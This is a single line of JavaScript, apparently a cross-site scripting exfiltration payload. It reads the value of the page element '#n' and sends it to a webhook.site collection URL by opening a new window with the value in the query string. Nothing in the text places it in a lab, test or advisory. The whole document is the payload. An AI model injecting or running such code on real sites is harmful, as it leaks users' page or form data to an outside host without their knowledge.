window.open('https://webhook.site/abc?'+document.querySelector('#n').value)
